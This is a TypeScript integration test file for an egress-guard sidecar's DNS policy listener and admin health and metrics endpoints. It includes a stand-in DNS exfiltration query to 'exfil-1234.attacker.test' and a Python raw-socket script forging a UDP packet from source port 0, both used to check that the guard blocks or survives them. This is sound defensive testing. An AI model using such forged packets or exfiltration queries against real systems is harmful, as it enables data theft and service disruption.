import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { runProcess, startEgressGuard, type EgressGuardProcess } from '../helpers/egress-guard-process.js';
import { startZoneServer, type ZoneServer } from '../helpers/dns-zone-server.js';

/** `egress-guard run` with every listener on: DNS (local names, policy), admin (/healthz, /metrics). */
describe('sidecar wiring: DNS listener, local names, admin endpoints', () => {
  let upstream: ZoneServer;
  let guard: EgressGuardProcess;
  let dnsPort: number;
  let adminPort: number;

  before(async () => {
    upstream = await startZoneServer({ 'allowed.test': [{ type: 'A', value: '203.0.113.7' }] });
    guard = await startEgressGuard(['--dns-listen', '127.0.0.1:0', '--admin-listen', '127.0.0.1:0', '--local-names', 'build-cache.job=127.0.0.9'], {
      EGRESS_MODE: 'block',
      EGRESS_ALLOWED_ENDPOINTS: 'allowed.test',
      EGRESS_DNS_UPSTREAM: upstream.address,
    });
    dnsPort = (await guard.waitFor((l) => l.msg === 'listening' && l.listener === 'dns')).port as number;
    adminPort = (await guard.waitFor((l) => l.msg === 'listening' && l.listener === 'admin')).port as number;
  });

  after(async () => {
    await guard?.stop();
    await upstream?.close();
  });

  const dig = (name: string) => runProcess('dig', ['+short', '+tries=1', '+time=3', '-p', String(dnsPort), '@127.0.0.1', name, 'A']);
  const digStatus = async (name: string) => /status: (\w+)/.exec((await runProcess('dig', ['+tries=1', '+time=3', '-p', String(dnsPort), '@127.0.0.1', name, 'A'])).stdout)?.[1];

  test('allowed names resolve through the upstream, local names locally, blocked names never leave', async () => {
    assert.equal((await dig('allowed.test')).stdout.trim(), '203.0.113.7');
    assert.equal((await dig('build-cache.job')).stdout.trim(), '127.0.0.9');
    assert.equal(await digStatus('exfil-1234.attacker.test'), 'NXDOMAIN');
    assert.ok(upstream.askedNames().includes('allowed.test'));
    assert.ok(!upstream.askedNames().some((q) => q.includes('attacker') || q.includes('build-cache')), JSON.stringify(upstream.askedNames()));
    const local = await guard.waitFor((l) => l.event === 'decision' && l.host === 'build-cache.job');
    assert.equal(local.reason, 'local-name');
    const blocked = await guard.waitFor((l) => l.event === 'decision' && l.host === 'exfil-1234.attacker.test');
    assert.equal(blocked.decision, 'blocked');
    assert.equal(blocked.kind, 'dns');
  });

  test('a query forged from UDP source port 0 (raw socket) is dropped; the process keeps serving', async () => {
    const script = [
      'import socket, struct, sys',
      'port = int(sys.argv[1])',
      "q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b'\\x07allowed\\x04test\\x00' + struct.pack('>HH', 1, 1)",
      "udp = struct.pack('>HHHH', 0, port, 8 + len(q), 0) + q",
      "ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton('127.0.0.1'), socket.inet_aton('127.0.0.1'))",
      's = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)',
      "s.sendto(ip + udp, ('127.0.0.1', 0))",
    ].join('\n');
    const sent = await runProcess('python3', ['-c', script, String(dnsPort)]);
    assert.equal(sent.code, 0, sent.stderr);
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(guard.child.exitCode, null, 'still running');
    assert.equal((await dig('allowed.test')).stdout.trim(), '203.0.113.7');
  });

  test('/healthz answers 200 and /metrics counts the decisions and DNS cache use', async () => {
    assert.equal((await dig('allowed.test')).stdout.trim(), '203.0.113.7', 'a second query: served from the cache');
    const health = await fetch(`http://127.0.0.1:${adminPort}/healthz`);
    assert.equal(health.status, 200);
    const metrics = await (await fetch(`http://127.0.0.1:${adminPort}/metrics`)).text();
    assert.match(metrics, /^egress_decisions_total\{kind="dns",decision="blocked"\} 1$/m);
    assert.match(metrics, /^egress_decisions_total\{kind="dns",decision="allowed"\} [3-9]$/m);
    assert.match(metrics, /^egress_dns_cache_hits_total [1-9]\d*$/m);
    assert.match(metrics, /^egress_connections_open 0$/m);
  });
});
